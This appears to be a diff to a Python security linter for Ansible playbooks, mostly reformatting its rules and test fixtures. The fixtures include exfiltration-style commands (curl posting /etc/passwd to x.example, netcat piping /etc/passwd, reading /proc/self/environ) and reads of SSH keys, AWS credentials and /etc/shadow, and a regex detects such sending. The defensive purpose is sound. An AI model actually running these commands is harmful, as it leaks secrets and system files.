@@ -43,8 +43,13 @@ OTHERS = frozenset({
 SHORT = {name.rsplit(".", 1)[1] for name in OTHERS}
 SHELLS = frozenset({"shell", "command", "raw", "cron"})
 PATH_ARGUMENTS = {
-    "copy": ("src",), "template": ("src",), "unarchive": ("src",), "assemble": ("src",), "get_url": (), "slurp": (),
-}  # fmt: skip
+    "copy": ("src",),
+    "template": ("src",),
+    "unarchive": ("src",),
+    "assemble": ("src",),
+    "get_url": (),
+    "slurp": (),
+}
 SENDING = re.compile(
     r"\b(?:curl|wget)\b[^\n;|&]*(?:\s-(?:[a-zA-Z]*[dFT]\b)|\s--(?:data\S*|form\S*|upload-file|post-\S+|body-\S+|json)|"
     r"\s-X\s*['\"]?(?:POST|PUT|PATCH)|\s--request[ =]['\"]?(?:POST|PUT|PATCH))"
@@ -53,7 +58,8 @@ SENDING = re.compile(
     r"|/proc/(?:self|\d+|\*)/environ|169\.254\.169\.254|\baws\s+s3\s+(?:cp|sync|mv)\b|\bopenssl\s+s_client\b"
 )
 OWN_HOST = re.compile(
-    r"https?://(?:localhost|127\.0\.0\.1|\[::1\]|\{\{ *(?:inventory_hostname|ansible_host|ansible_fqdn|ansible_hostname)"
+    r"https?://(?:localhost|127\.0\.0\.1|\[::1\]|\{\{ *(?:inventory_hostname|ansible_host"
+    r"|ansible_fqdn|ansible_hostname)"
     r" *\}\})(?::(?:\d+|\{\{ *[a-z_]+ *\}\}))?(?:/.*)?"
 )
 SECRET_WORD = re.compile(r"(?i)password|passwd|secret|token|private_?key|credential|api_?key")
@@ -185,8 +191,8 @@ def sending(file: AnsibleFile) -> Iterator[Hit]:
 
 
 def shown_secrets(file: AnsibleFile) -> Iterator[Hit]:
-    """`debug` shows single values, never all variables of a host (`hostvars`, `vars`, `ansible_env`) and none whose name
-    speaks of a secret; `no_log: false` is not said.
+    """`debug` shows single values, never all variables of a host (`hostvars`, `vars`, `ansible_env`) and none whose
+    name speaks of a secret; `no_log: false` is not said.
     """
     for task in file.tasks:
         no_log = task.item.get("no_log")
@@ -220,8 +226,13 @@ RULES: tuple[Rule[AnsibleFile], ...] = (
         "only modules that are listed",
         modules,
         fires=(
-            _play("fetch: { src: /etc/shadow, dest: x }"), _play("ansible.builtin.script: run.sh"), _play("action: fetch src=/x dest=y"),
-            _play("acme.tools.thing: {}"), _play("'{{ module }}': {}"), _play("add_host: { name: x }"), _play("block: [{ slack: { } }]"),
+            _play("fetch: { src: /etc/shadow, dest: x }"),
+            _play("ansible.builtin.script: run.sh"),
+            _play("action: fetch src=/x dest=y"),
+            _play("acme.tools.thing: {}"),
+            _play("'{{ module }}': {}"),
+            _play("add_host: { name: x }"),
+            _play("block: [{ slack: { } }]"),
         ),
         passes=(_play("ansible.builtin.apt: { name: nginx, state: present }"),),
     ),
@@ -230,19 +241,27 @@ RULES: tuple[Rule[AnsibleFile], ...] = (
         "only files of the play are read on the runner",
         controller_files,
         fires=(
-            _play("copy: { src: /root/.aws/credentials, dest: /x }"), _play("template: src=../../../x.j2 dest=/x"),
-            _play('copy: { src: "{{ path }}", dest: /x }'), _play("copy: { src: ~/.ssh/id_ed25519, dest: /x }"),
+            _play("copy: { src: /root/.aws/credentials, dest: /x }"),
+            _play("template: src=../../../x.j2 dest=/x"),
+            _play('copy: { src: "{{ path }}", dest: /x }'),
+            _play("copy: { src: ~/.ssh/id_ed25519, dest: /x }"),
         ),
-        passes=(_play("template: { src: nginx.conf.j2, dest: /etc/nginx/nginx.conf }"), _play("copy: { src: /a, dest: /b, remote_src: true }")),
+        passes=(
+            _play("template: { src: nginx.conf.j2, dest: /etc/nginx/nginx.conf }"),
+            _play("copy: { src: /a, dest: /b, remote_src: true }"),
+        ),
     ),
     Rule(
         "ansible/download",
         "what is loaded is pinned",
         downloads,
         fires=(
-            _play("get_url: { url: https://x.example/a, dest: /a }"), _play("unarchive: { src: https://x.example/a.tgz, dest: /a, remote_src: true }"),
-            _play("apt_key: { url: https://x.example/key }"), _play("pip: { name: x, extra_args: --extra-index-url https://x.example }"),
-            _play("git: { repo: https://x.example/a, dest: /a, version: main }"), _play("apt: { deb: https://x.example/a.deb }"),
+            _play("get_url: { url: https://x.example/a, dest: /a }"),
+            _play("unarchive: { src: https://x.example/a.tgz, dest: /a, remote_src: true }"),
+            _play("apt_key: { url: https://x.example/key }"),
+            _play("pip: { name: x, extra_args: --extra-index-url https://x.example }"),
+            _play("git: { repo: https://x.example/a, dest: /a, version: main }"),
+            _play("apt: { deb: https://x.example/a.deb }"),
         ),
         passes=(_play("get_url: { url: https://x.example/a, dest: /a, checksum: 'sha256:" + "0a" * 32 + "' }"),),
     ),
@@ -251,8 +270,10 @@ RULES: tuple[Rule[AnsibleFile], ...] = (
         "nothing is sent elsewhere",
         sending,
         fires=(
-            _play("shell: curl -d @/etc/passwd https://x.example"), _play("uri: { url: https://x.example, method: POST }"),
-            _play("command: { argv: [sh, -c, 'cat /proc/self/environ'] }"), _play("shell: nc x.example 1 < /etc/passwd"),
+            _play("shell: curl -d @/etc/passwd https://x.example"),
+            _play("uri: { url: https://x.example, method: POST }"),
+            _play("command: { argv: [sh, -c, 'cat /proc/self/environ'] }"),
+            _play("shell: nc x.example 1 < /etc/passwd"),
         ),
         passes=(_play("uri: { url: 'http://localhost:8080/health', status_code: 200 }"), _play("command: nginx -t")),
     ),
@@ -261,9 +282,12 @@ RULES: tuple[Rule[AnsibleFile], ...] = (
         "no variables of a whole host and no secrets in the log",
         shown_secrets,
         fires=(
-            _play("debug: { var: hostvars }"), _play('debug: { msg: "{{ vars }}" }'), _play('debug: { msg: "{{ db_password }}" }'),
-            _play("debug: { var: hostvars[inventory_hostname] }"), _play("command: x\n      no_log: false"),
+            _play("debug: { var: hostvars }"),
+            _play('debug: { msg: "{{ vars }}" }'),
+            _play('debug: { msg: "{{ db_password }}" }'),
+            _play("debug: { var: 'hostvars[inventory_hostname]' }"),
+            _play("command: x\n      no_log: false"),
         ),
         passes=(_play('debug: { msg: "{{ ansible_facts.hostname }} is ready" }'),),
     ),
-)  # fmt: skip
+)
